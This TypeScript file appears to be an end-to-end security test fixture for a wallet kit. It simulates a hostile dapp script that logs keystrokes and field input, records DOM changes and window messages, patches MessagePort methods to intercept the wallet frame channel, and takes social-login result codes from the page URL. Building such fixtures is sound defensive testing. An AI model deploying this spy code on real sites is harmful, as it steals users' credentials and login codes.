// The hostile dapp's eavesdropper. It is loaded before the kit (its own script tag, first in the
// page), as any third-party script a dapp embeds could be: it records every input and key event,
// the text of every DOM change, every window message, and the traffic of every MessagePort the
// page's code opens (the kit's private channel to the wallet frame included), so the e2e can check
// that nothing that unlocks a key ever passed through the dapp's realm. It also reads a social
// login's result code from the page's own address, should apps/api ever send one to a dapp page.

/** One thing the spy saw: where (`channel`) and what, as text. */
export interface SpyRecord {
  channel: 'input' | 'keydown' | 'dom' | 'window-message' | 'port-in' | 'port-out'
  text: string
  /** A frame-protocol message's type (`GET_USER_SUCCESS`): names where a secret was carried. */
  type?: string
}

export interface Spy {
  records: SpyRecord[]
  /** Records again from now on (the e2e brackets one login). */
  start(): void
  stop(): void
  /** The kit's end of its channel to the wallet frame: the port that received FRAME_READY. */
  framePort(): MessagePort | undefined
  /** Replies and events seen on the frame port, newest last (kept while stopped too). */
  frameReplies: { id?: string; type: string; payload: unknown }[]
  /**
   * The social-login result codes this dapp's pages ever found in their own address for attempt
   * `attemptId` (a tab the victim landed in writes them to the origin's storage the stranger's tab reads).
   */
  socialCodes(attemptId: string): string[]
}

const PROTOCOL = 'portico-frame'
/** apps/api's parameters for a social login's attempt and its one-time result code. */
const SOCIAL_ATTEMPT_PARAM = 'portico_social'
export const SOCIAL_CODE_PARAM = 'portico_social_code'
/** Where the spy keeps the codes it read, in this origin's storage (every tab of the dapp sees it). */
const SOCIAL_CODES_KEY = 'portico-lab-hostile:social-codes'

type ReadCode = { attemptId: string; code: string }

function readCodes(): ReadCode[] {
  try {
    const stored: unknown = JSON.parse(localStorage.getItem(SOCIAL_CODES_KEY) ?? '[]')
    return Array.isArray(stored) ? (stored as ReadCode[]) : []
  } catch {
    return []
  }
}

/**
 * Reads a social login's result code from the page's own address before the kit can strip it,
 * as any script on a dapp page a login returns to could, and keeps it for the stranger.
 */
function stealSocialCode(): void {
  const query = new URL(location.href).searchParams
  const code = query.get(SOCIAL_CODE_PARAM)
  if (!code) return
  const attemptId = query.get(SOCIAL_ATTEMPT_PARAM) ?? ''
  localStorage.setItem(SOCIAL_CODES_KEY, JSON.stringify([...readCodes(), { attemptId, code }]))
}

function asText(value: unknown): string {
  if (typeof value === 'string') return value
  try {
    return JSON.stringify(value) ?? String(value)
  } catch {
    return String(value)
  }
}

function isFrameMessage(data: unknown): data is { id?: string; type: string; payload: unknown } {
  return (
    typeof data === 'object' &&
    data !== null &&
    (data as { protocol?: unknown }).protocol === PROTOCOL &&
    typeof (data as { type?: unknown }).type === 'string'
  )
}

function installSpy(): Spy {
  stealSocialCode()
  let recording = true
  let framePort: MessagePort | undefined
  const records: SpyRecord[] = []
  const frameReplies: Spy['frameReplies'] = []
  const record = (channel: SpyRecord['channel'], value: unknown) => {
    if (!recording) return
    const type = isFrameMessage(value) ? { type: value.type } : {}
    records.push({ channel, text: asText(value), ...type })
  }

  // Capture phase on the document: the page sees every event before the kit's handlers do. The
  // target is taken from the composed path, so a field in an open shadow root is read too.
  const fieldValue = (event: Event) => {
    const target = event.composedPath()[0]
    return target && 'value' in (target as object) ? String((target as HTMLInputElement).value) : ''
  }
  for (const type of ['input', 'change', 'paste'] as const) {
    document.addEventListener(type, (event) => record('input', fieldValue(event)), true)
  }
  document.addEventListener('keydown', (event) => record('keydown', event.key), true)
  window.addEventListener('message', (event) => record('window-message', event.data), true)

  // Every text the document shows, as it changes (attributes too: a field's value attribute).
  const observer = new MutationObserver((mutations) => {
    for (const mutation of mutations) {
      if (mutation.type === 'characterData') record('dom', mutation.target.textContent)
      else if (mutation.type === 'attributes') {
        record('dom', (mutation.target as Element).getAttribute(mutation.attributeName ?? ''))
      } else for (const node of mutation.addedNodes) record('dom', node.textContent)
    }
  })
  observer.observe(document, {
    subtree: true,
    childList: true,
    characterData: true,
    attributes: true,
  })

  // MessagePort, wrapped before any other script ran: the spy listens on every port the page
  // touches (its handler beside the kit's) and sees what is posted on it.
  const watched = new WeakSet<MessagePort>()
  const addListener = MessagePort.prototype.addEventListener
  const watch = (port: MessagePort) => {
    if (watched.has(port)) return
    watched.add(port)
    addListener.call(port, 'message', (event: Event) => {
      const data = (event as MessageEvent).data
      record('port-in', data)
      if (!isFrameMessage(data)) return
      if (data.type === 'FRAME_READY') framePort = port
      frameReplies.push({
        ...(data.id ? { id: data.id } : {}),
        type: data.type,
        payload: data.payload,
      })
    })
  }
  const post = MessagePort.prototype.postMessage as (
    this: MessagePort,
    message: unknown,
    transfer?: Transferable[] | StructuredSerializeOptions,
  ) => void
  MessagePort.prototype.postMessage = function (
    this: MessagePort,
    message: unknown,
    transfer?: Transferable[] | StructuredSerializeOptions,
  ) {
    watch(this)
    record('port-out', message)
    return post.call(this, message, transfer)
  } as MessagePort['postMessage']
  MessagePort.prototype.addEventListener = function (
    this: MessagePort,
    ...args: Parameters<MessagePort['addEventListener']>
  ) {
    watch(this)
    return addListener.apply(this, args)
  } as MessagePort['addEventListener']
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage')
  if (onmessage?.set && onmessage.get) {
    const { get, set } = onmessage
    Object.defineProperty(MessagePort.prototype, 'onmessage', {
      configurable: true,
      enumerable: onmessage.enumerable ?? true,
      get(this: MessagePort) {
        return get.call(this)
      },
      set(this: MessagePort, handler: unknown) {
        watch(this)
        set.call(this, handler)
      },
    })
  }

  return {
    records,
    frameReplies,
    start() {
      records.length = 0
      recording = true
    },
    stop() {
      recording = false
    },
    framePort: () => framePort,
    socialCodes: (attemptId) =>
      readCodes()
        .filter((read) => read.attemptId === attemptId)
        .map((read) => read.code),
  }
}

const hostileWindow = window as unknown as { __porticoSpy?: Spy }
hostileWindow.__porticoSpy ??= installSpy()
